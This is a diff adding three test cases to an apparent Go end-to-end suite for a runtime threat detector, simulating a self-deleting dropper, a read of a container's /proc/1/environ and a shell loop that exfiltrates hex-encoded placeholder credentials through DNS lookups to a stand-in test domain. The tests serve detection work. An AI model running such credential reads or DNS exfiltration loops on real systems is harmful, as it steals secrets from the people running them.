@@ -180,6 +180,45 @@ while True:
 			wants: []want{{Type: "DefenseEvasion:Runtime/FilelessExecution"}},
 		},
 		{
+			name: "dropper deletes its own executable once it runs",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				dropper := filepath.Join(e.work, "bin", "kdevtmpfsi")
+				copyFile(t, e.attacker, dropper, 0o755)
+				run(t, dropper, "self-delete")
+				if _, err := os.Stat(dropper); err == nil {
+					t.Error("the dropper is still on disk")
+				}
+			},
+			wants: []want{{Type: "DefenseEvasion:Runtime/SelfDeletingExecutable", Exe: []string{"/kdevtmpfsi"}}},
+		},
+		{
+			name:      "environment of the container's pid 1 read from /proc",
+			container: true,
+			run: func(t *testing.T, e *env, c *containerRun) {
+				c.exec(t, "/bin/sh", "-c", "cat /proc/1/environ > /tmp/env.out")
+			},
+			wants: []want{{Type: "CredentialAccess:Runtime/ProcessEnvironmentRead", Exe: []string{"/busybox"}, InContainer: true}},
+		},
+		{
+			name: "file exfiltrated through DNS by a shell loop, one lookup process per hex chunk",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				secret := []byte("aws_access_key_id=AKIAIOSFODNN7EXAMPLE\naws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n" +
+					"db_password=correct-horse-battery-staple\napi_token=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB\n" +
+					"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n" +
+					"QyNTUxOQAAACBvaWdpbC1lMmUtZmFrZS1rZXktbm90LXJlYWwtYXQtYWxsAAAAmHZpZ2ls\n-----END OPENSSH PRIVATE KEY-----\n")
+				hexed := fmt.Sprintf("%x", secret)
+				var chunks []string
+				for i := 0; i < len(hexed); i += 30 {
+					chunks = append(chunks, fmt.Sprintf("%s.%d.x.exfil.vigil.test", hexed[i:min(i+30, len(hexed))], i/30))
+				}
+				if len(chunks) < 20 {
+					t.Fatalf("only %d chunks", len(chunks))
+				}
+				run(t, "/bin/sh", "-c", fmt.Sprintf("for n in %s; do %s dns $n %s > /dev/null; done", strings.Join(chunks, " "), e.attacker, e.dns))
+			},
+			wants: []want{{Type: "Trojan:Runtime/DNSDataExfiltration", Exe: []string{"/attacker"}}},
+		},
+		{
 			name: "execution of a deleted file",
 			run: func(t *testing.T, e *env, _ *containerRun) {
 				run(t, e.attacker, "deleted-exec")
